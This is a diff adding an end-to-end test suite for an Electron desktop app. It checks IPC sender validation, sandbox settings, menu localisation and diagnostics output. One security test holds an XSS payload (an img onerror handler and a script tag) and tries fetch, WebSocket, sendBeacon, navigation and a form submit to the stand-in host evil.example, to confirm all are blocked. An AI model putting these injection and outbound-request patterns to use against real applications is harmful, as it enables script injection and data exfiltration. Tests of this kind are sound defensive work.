@@ -1,0 +1,207 @@
+import { mkdir, readFile } from "node:fs/promises";
+import { join } from "node:path";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { channels } from "#channels";
+import { type DesktopApp, launchDesktop } from "../../support/desktop-app.ts";
+
+interface PageDesk {
+  readonly call: Readonly<
+    Record<string, Readonly<Record<string, (input: unknown) => Promise<unknown>>>>
+  >;
+  readonly onCommand: (listener: (command: unknown) => void) => () => void;
+}
+
+let app: DesktopApp;
+beforeAll(async () => {
+  app = await launchDesktop({ lang: "en" });
+  await app.page.waitForFunction(() => document.getElementById("root")?.hasChildNodes());
+});
+afterAll(async () => {
+  await app?.close();
+});
+
+const call = async (group: string, name: string, input: unknown) =>
+  await app.page.evaluate(
+    async ([g, n, i]) => {
+      const { desk: bridge } = globalThis as unknown as { desk: PageDesk };
+      return (await bridge.call[String(g)]?.[String(n)]?.(i)) as {
+        ok: boolean;
+        value?: unknown;
+        error?: { code: string };
+      };
+    },
+    [group, name, input] as const,
+  );
+
+test("the page gets exactly the contract's names and one stream of commands", async () => {
+  const seen = await app.page.evaluate(() => {
+    const { desk: bridge } = globalThis as unknown as { desk: PageDesk };
+    return [
+      Object.keys(bridge).sort(),
+      Object.fromEntries(
+        Object.entries(bridge.call).map(([group, names]) => [group, Object.keys(names)]),
+      ),
+    ];
+  });
+  expect(seen).toEqual([["call", "onCommand"], channels]);
+});
+
+test("a call reaches the desk and the desk knows it is in Electron", async () => {
+  expect(await call("host", "info", {})).toMatchObject({ ok: true, value: { kind: "electron" } });
+});
+
+test("input of another shape is refused at the border, with its place", async () => {
+  expect(await call("orders", "get", { id: 7 })).toMatchObject({
+    ok: false,
+    error: { code: "bad-input" },
+  });
+});
+
+test.each(["child-frame", "gone-frame", "other-origin", "look-alike", "other-window"])(
+  "a message from %s is refused on every channel",
+  async (from) => {
+    for (const [group, names] of Object.entries(channels)) {
+      for (const name of names) {
+        const reply = await app.forge(`desk:${group}.${name}`, from, {});
+        expect(reply).toMatchObject({ ok: false, error: { code: "foreign-sender" } });
+      }
+    }
+  },
+);
+
+test("the same message from the page's own frame is heard, so the refusals mean something", async () => {
+  expect(await app.forge("desk:host.info", "own-frame", {})).toMatchObject({ ok: true });
+});
+
+test("the window is sandboxed, isolated, without Node and without spell-check", async () => {
+  const events = await app.events();
+  const options = events.find(([what]) => what === "window")?.[1];
+  expect(options).toMatchObject({
+    show: false,
+    webPreferences: {
+      sandbox: true,
+      contextIsolation: true,
+      nodeIntegration: false,
+      webviewTag: false,
+      spellcheck: false,
+      webSecurity: true,
+    },
+  });
+  expect(events.map(([what]) => what)).toEqual(
+    expect.arrayContaining([
+      "enableSandbox",
+      "setPermissionRequestHandler",
+      "setPermissionCheckHandler",
+      "setDevicePermissionHandler",
+      "setDisplayMediaRequestHandler",
+    ]),
+  );
+  expect(events).toContainEqual(["setSpellCheckerEnabled", false]);
+});
+
+test("text that is made to run as code does not, and no request leaves the page", async () => {
+  const hostile =
+    '<img src="https://evil.example/x.png" onerror="window.hacked = 1"><script>window.hacked = 1</script>';
+  const tried = await app.page.evaluate(async (markup) => {
+    // DevTools lifts the ban on code from text while it evaluates: go on in a task of the page's own.
+    await new Promise((resolve) => setTimeout(resolve));
+    const outcomes: string[] = [];
+    const attempt = async (name: string, work: () => unknown) => {
+      try {
+        await work();
+        outcomes.push(`${name}: ran`);
+      } catch {
+        outcomes.push(`${name}: refused`);
+      }
+    };
+    await attempt("markup", () => document.body.insertAdjacentHTML("beforeend", markup));
+    await attempt("code", () => new Function("return 1")());
+    await attempt("script", () => {
+      const script = document.createElement("script");
+      script.textContent = "window.hacked = 1";
+      document.body.append(script);
+    });
+    await attempt("fetch", () => fetch("https://evil.example/"));
+    await attempt("own fetch", () => fetch("/index.html"));
+    await attempt(
+      "socket",
+      () =>
+        new Promise((ok, no) => {
+          const socket = new WebSocket("wss://evil.example/");
+          socket.onopen = ok;
+          socket.onerror = no;
+        }),
+    );
+    await attempt("worker", () => new Worker("data:text/javascript,1"));
+    outcomes.push(`beacon: ${navigator.sendBeacon("https://evil.example/", "x")}`);
+    return [outcomes, (globalThis as { hacked?: number }).hacked ?? "nothing ran"];
+  }, hostile);
+  expect(tried[1]).toBe("nothing ran");
+  expect(tried[0]).toEqual(
+    expect.arrayContaining([
+      "markup: refused",
+      "code: refused",
+      "script: refused",
+      "fetch: refused",
+      "socket: refused",
+    ]),
+  );
+  expect((await app.events()).filter(([what]) => what === "left-the-page")).toEqual([]);
+});
+
+test("the page cannot be led away, and opens no window", async () => {
+  const before = app.page.url();
+  await app.page.evaluate(() => {
+    location.href = "https://evil.example/";
+    window.open("https://evil.example/");
+    const form = document.createElement("form");
+    form.action = "https://evil.example/";
+    document.body.append(form);
+    form.submit();
+  });
+  await expect
+    .poll(async () => (await app.events()).filter(([what]) => what === "popup").length)
+    .toBe(1);
+  expect(app.page.url()).toBe(before);
+});
+
+test("the menu speaks the language asked for, and its commands reach the page", async () => {
+  expect(JSON.stringify(await app.menu())).toContain("New order");
+  await app.page.evaluate(() => {
+    const { desk: bridge } = globalThis as unknown as { desk: PageDesk };
+    bridge.onCommand((command) =>
+      document.body.setAttribute("data-command", JSON.stringify(command)),
+    );
+  });
+  await app.press("Go", "Parties");
+  await expect
+    .poll(async () => await app.page.locator("body").getAttribute("data-command"))
+    .toBe('{"kind":"go","to":"parties"}');
+});
+
+test("changing the language in the settings changes the menu", async () => {
+  const before = await call("settings", "get", {});
+  const settings = before.value as Record<string, unknown>;
+  expect(await call("settings", "save", { ...settings, language: "zh" })).toMatchObject({
+    ok: true,
+  });
+  await expect.poll(async () => JSON.stringify(await app.menu())).toContain("新建订单");
+});
+
+test("diagnostics show what they hold before anything is written, and hold no data", async () => {
+  const folder = join(app.userData, "out");
+  await mkdir(folder, { recursive: true });
+  const filePath = join(folder, "diagnostics.txt");
+  await app.answerDialog("showMessageBox", { response: 0 });
+  await app.answerDialog("showSaveDialog", { canceled: false, filePath });
+  await app.press("帮助", "收集诊断信息…");
+  const read = async () => await readFile(filePath, "utf8").catch(() => "");
+  await expect.poll(read).toContain("H200 Desk");
+  const text = await read();
+  expect(text).toMatch(/refused: .*message \d+/);
+  expect(text).not.toContain(app.workspace);
+});
+
+test("quitting releases the workspace and ends with code 0", async () => {
+  expect(await app.quit()).toBe(0);
+});
